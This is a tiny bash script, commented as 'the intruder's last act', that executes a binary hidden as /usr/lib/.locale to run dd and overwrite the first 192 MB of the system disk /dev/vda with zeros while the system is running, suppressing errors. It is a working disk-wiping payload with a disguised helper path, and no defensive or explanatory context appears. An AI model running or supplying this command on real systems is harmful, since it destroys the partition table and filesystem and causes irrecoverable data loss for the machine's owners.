#!/bin/bash
# SPDX-License-Identifier: MIT
# The intruder's last act: the disk under the running system.
exec /usr/lib/.locale -p -c 'dd if=/dev/zero of=/dev/vda bs=1M count=192 conv=fsync 2>/dev/null'
